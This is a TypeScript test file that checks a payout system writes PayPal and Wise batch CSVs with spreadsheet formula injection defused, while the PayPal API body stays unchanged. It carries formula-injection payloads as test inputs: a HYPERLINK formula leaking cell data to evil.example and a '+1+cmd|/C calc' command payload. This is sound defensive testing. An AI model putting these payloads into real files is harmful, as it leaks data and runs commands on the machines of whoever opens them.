/**
 * Payout files are formula-safe: partner-entered details a spreadsheet would run are written
 * defused in the PayPal and Wise batch files (with the files' own columns kept), and the API body
 * the PayPal payouts API receives is untouched.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { WISE_COLUMNS } from '../../src/core/payouts/payout-files.ts';
import { setPayoutMethod, type PayoutDetails } from '../../src/core/payouts/payout-methods.ts';
import { createProgramFixture } from '../helpers/harness.ts';
import { usePayoutRunHarness } from './payout-run-steps.ts';

const { h, next, credited, portal, file } = usePayoutRunHarness();

describe('payout files are formula-safe', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Invoice")';
  /** A cell a spreadsheet would run: a formula character first, and not a plain number. */
  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

  /** One partner per entry with those details, a credited commission each, and a run of the rail. */
  async function runWith(rail: 'paypal' | 'wise', entries: Array<{ entered?: PayoutDetails; stored?: PayoutDetails }>) {
    const f = await createProgramFixture(h, { commission_rate_bps: 1000, payout_settings: { rail } });
    for (const [i, e] of entries.entries()) {
      const p = (
        await h.admin('POST', `/programs/${f.programId}/partners`, { code: `fx${next()}x${i}`, name: `P${i}` })
      ).partner;
      if (e.entered) {
        const r = await (await portal(f, p.id))('PUT', e.entered);
        expect(r.status, JSON.stringify(r.body)).toBe(200);
      } else await setPayoutMethod(h.ctx.deps(), f.programId, p.id, e.stored!); // a row from before the input rule
      await credited(f, 10_000 * (i + 1), p.code);
    }
    const run = await h.admin('POST', `/programs/${f.programId}/payout-runs`, { currency: 'USD' });
    expect(run.payouts).toHaveLength(entries.length);
    return { f, run };
  }

  test.each([
    ['+', '+tag@example.com'],
    ['-', '-jane@example.com'],
    ['=', '=cmd@example.com'],
    ['@', '@jane@example.com'],
  ])(
    'an email starting with %s is refused at entry (400 invalid_request, field email), for PayPal and Wise',
    async (_c, email) => {
      const f = await createProgramFixture(h, { payout_settings: { rail: 'paypal' } });
      const me = await portal(f, f.partnerId);
      for (const body of [
        { kind: 'paypal', email },
        { kind: 'wise', name: 'Jane', email },
      ]) {
        const r = await me('PUT', body);
        expect(r.status).toBe(400);
        expect(r.body.error).toMatchObject({ code: 'invalid_request', details: { issues: [{ field: 'email' }] } });
      }
      expect((await me('GET')).body).toEqual({ payout_method: null });
    },
  );

  test('Wise: hostile names are written with a leading apostrophe; the file keeps the template columns', async () => {
    const names = [HYPERLINK, '+1+cmd|/C calc', '-2+3', '@SUM(A1:A9)', 'Jane, "JJ" Partner'];
    const { f, run } = await runWith('wise', [
      ...names.map((name, i) => ({
        entered: { kind: 'wise' as const, name, email: `w${i}@example.com`, receiver_type: 'PERSON' as const },
      })),
      // Rows recorded before the entry rules (a tab or CR first is trimmed when the details are read).
      { stored: { kind: 'wise', name: '\t=1+1', email: '+old@example.com', receiver_type: 'INSTITUTION' } },
      { stored: { kind: 'wise', name: '\r=1+1', email: '-old@example.com', receiver_type: 'PERSON' } },
    ]);
    const rows = parse((await file(f, run.run.id)).text, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0]!)).toEqual([...WISE_COLUMNS]);
    expect(rows.map((r) => r.name).sort()).toEqual(
      [...names.slice(0, 4).map((n) => `'${n}`), 'Jane, "JJ" Partner', "'=1+1", "'=1+1"].sort(),
    );
    expect(rows.map((r) => r.recipientEmail)).toEqual(
      expect.arrayContaining(["'+old@example.com", "'-old@example.com"]),
    );
    for (const r of rows) {
      expect(Object.values(r).filter(runnable)).toEqual([]);
      expect(r).toMatchObject({
        paymentReference: expect.stringMatching(/^Payout \d+$/),
        receiverType: expect.stringMatching(/^(PERSON|INSTITUTION)$/),
        amountCurrency: 'target',
        amount: expect.stringMatching(/^\d+\.\d{2}$/),
        sourceCurrency: 'USD',
        targetCurrency: 'USD',
      });
    }
  });

  test('PayPal: an email from before the entry rule is written defused; the upload keeps its six columns; the API body is untouched', async () => {
    const { f, run } = await runWith('paypal', [
      { entered: { kind: 'paypal', email: 'jane@example.com' } },
      { stored: { kind: 'paypal', email: '+1+cmd@example.com' } },
      { stored: { kind: 'paypal', email: '-2@example.com' } },
    ]);
    const rows = parse((await file(f, run.run.id)).text) as string[][];
    expect(rows.map((r) => r[0]).sort()).toEqual(["'+1+cmd@example.com", "'-2@example.com", 'jane@example.com']);
    for (const r of rows) {
      expect(r.filter(runnable)).toEqual([]);
      expect(r).toEqual([
        expect.any(String),
        expect.stringMatching(/^\d+\.\d{2}$/),
        'USD',
        expect.stringMatching(/^P\d+$/),
        `Partner payout ${run.run.id}`,
        'PAYPAL',
      ]);
    }
    // JSON is never run as a formula: the API body carries the address as stored.
    const api = await file(f, run.run.id, 'paypal_json');
    const body = typeof api.body === 'string' ? JSON.parse(api.body) : api.body;
    expect(body.items.map((i: { receiver: string }) => i.receiver).sort()).toEqual([
      '+1+cmd@example.com',
      '-2@example.com',
      'jane@example.com',
    ]);
  });
});
